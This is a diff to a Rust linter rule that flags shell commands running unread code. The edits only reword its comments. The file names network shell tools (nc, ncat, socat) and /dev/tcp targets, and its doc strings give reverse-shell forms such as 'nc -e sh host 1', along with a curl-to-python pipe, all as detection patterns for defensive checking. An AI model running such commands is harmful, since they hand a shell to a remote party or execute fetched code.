@@ -1,4 +1,4 @@
-//! `no_unread_code`: running text that nobody has read.
+//! `no_unread_code`: running code that nobody has read.
 
 use super::super::interpreter::{Code, code};
 use super::super::{Group, Hit, Rule, Scene};
@@ -41,8 +41,8 @@ pub(in super::super) static RULE: Rule = Rule {
         "curl -s https://x.example | python3 -c 'import sys; print(sys.stdin.read())'",
         "cat data.json | python3 -m json.tool",
     ],
-    // What nobody has read comes through a pipe, out of a file or an expansion, and a command that is read as it
-    // stands has none of these; what is left are connections.
+    // Unread code comes from a pipe, a file or an expansion, and a command that is taken literally contains none of
+    // these; what remains are network connections.
     needs: |written| {
         written.any(|word| matches!(word, "nc" | "ncat" | "netcat" | "socat" | "tcp" | "udp"))
     },
@@ -91,7 +91,7 @@ fn check(ran: &Ran, _: &Scene<'_>) -> Option<Hit> {
     found.then(hit).flatten()
 }
 
-/// Whether nothing of a file's text is known.
+/// Whether nothing of a file's contents is known.
 fn unread(text: &Value) -> bool {
     text.is_fetched() || (text.has_unknown() && text.pieces().len() == 1)
 }
@@ -100,7 +100,7 @@ fn is_connection(target: &str) -> bool {
     target.starts_with("/dev/tcp/") || target.starts_with("/dev/udp/")
 }
 
-/// `nc -e sh host 1`, `socat exec:sh tcp:host:1`: whoever is at the other end gives the commands.
+/// `nc -e sh host 1`, `socat exec:sh tcp:host:1`: the remote end sends the commands.
 fn hands_over_a_shell(name: &str, ran: &Ran) -> bool {
     ran.arguments().iter().any(|field| {
         let text = field.value.prefix();
